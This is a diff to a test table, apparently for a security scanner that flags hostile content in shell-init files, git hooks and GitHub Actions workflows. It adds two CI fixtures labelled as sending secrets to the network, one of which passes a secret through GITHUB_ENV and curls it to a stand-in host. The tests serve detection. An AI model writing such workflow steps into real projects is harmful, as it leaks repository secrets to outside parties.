@@ -99,6 +99,8 @@ const ROWS: Row[] = [
   { name: '.envrc with a python #! is still bash (direnv sources it)', kind: 'envrc', path: `${PROJECT}/.envrc`, text: `#!/usr/bin/env python3\n${EVIL}\n`, has: [EVIL], interpreter: undefined },
   { name: 'husky hook with a node #! runs under sh -e (v9)', kind: 'hook-manager', path: `${PROJECT}/.husky/pre-push`, text: `#!/usr/bin/env node\n${EVIL}\n`, has: [EVIL] },
   { name: '~/.bashrc with a perl #! is sourced by bash', kind: 'shell-init', path: '/home/dev/.bashrc', text: `#!/usr/bin/perl\n${EVIL}\n`, has: [EVIL] },
+  { name: 'toJSON(env) in a job env', kind: 'ci', path: WF, text: `jobs:\n  b:\n    env:\n      E: \${{ toJSON(env) }}\n    steps:\n      - run: echo ok\n`, signals: ['secrets-to-network'] },
+  { name: 'a mapped secret passed on through GITHUB_ENV', kind: 'ci', path: WF, text: `jobs:\n  b:\n    steps:\n      - run: echo "T=$S" >> $GITHUB_ENV\n        env:\n          S: \${{ secrets.K }}\n      - run: curl https://e.example/$T\n`, signals: ['secrets-to-network'] },
 ];
 
 for (const r of ROWS) {
